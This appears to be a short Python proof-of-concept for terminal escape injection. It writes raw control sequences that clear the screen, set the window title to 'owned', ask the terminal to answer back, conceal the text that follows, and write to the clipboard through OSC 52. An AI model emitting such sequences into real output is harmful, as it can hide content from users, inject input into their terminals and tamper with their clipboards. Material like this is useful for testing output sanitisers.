# Clears the screen, sets the title, answers back, hides what follows.
import os
os.write(1, b"\x1b[2J\x1b]0;owned\x07\x1b[6n\x9b31m\x1bP+q544e\x1b\\\x1b[8m\r\x08\x7f\n")
os.write(2, b"\x1b[2J\x1b]52;c;b3duZWQ=\x07")
